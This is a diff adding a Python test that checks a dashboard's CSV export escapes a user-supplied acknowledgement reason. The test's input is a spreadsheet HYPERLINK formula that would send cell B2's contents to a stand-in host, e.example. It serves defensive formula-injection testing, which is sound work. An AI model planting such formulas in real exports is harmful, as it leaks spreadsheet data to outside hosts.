@@ -220,6 +220,20 @@ def test_acknowledgements_are_shown_with_who_and_why(tmp_path: Path) -> None:
         assert told["caps"][0]["most_usd"] == "50"
 
 
+def test_a_reason_that_somebody_gave_is_no_formula_of_the_leads_spreadsheet(tmp_path: Path) -> None:
+    with dashboard_world(tmp_path) as world:
+        world.run("dana", "39.9")
+        cap = next(iter(_standings(world, "dana"))).cap
+        formula = '=HYPERLINK("http://e.example/?"&B2,"why")'
+        comment = ("issue_comment", 1)
+        world.services.people.acknowledge(
+            cap, world.month, by="dana", reason=formula, repository_id=1, comment=comment
+        )
+        browser, _ = world.signed_in("ren", next="/people")
+        (_, row) = csv.reader(io.StringIO(browser.open(f"{world.url}/people?csv=acknowledged").text))
+        assert row[3] == f"'{formula}"
+
+
 def _standings(world: World, login: str) -> Any:
     from bot.web.dashboard.figures import own_cap
 
